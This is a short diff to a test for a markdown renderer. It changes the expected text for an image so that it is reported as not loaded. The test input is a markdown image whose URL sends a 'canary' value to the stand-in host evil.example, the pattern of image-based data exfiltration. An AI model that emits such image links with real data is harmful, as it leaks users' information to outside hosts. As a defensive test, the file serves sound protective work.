@@ -23,7 +23,7 @@ describe('what cannot do harm', () => {
 
   test('an image is its words and its address', () => {
     expect(textOf(shown('![the secret](https://evil.example/?d=canary)'))).toBe(
-      'the secret https://evil.example/?d=canary',
+      'Image, not loaded: the secret https://evil.example/?d=canary',
     )
   })
 
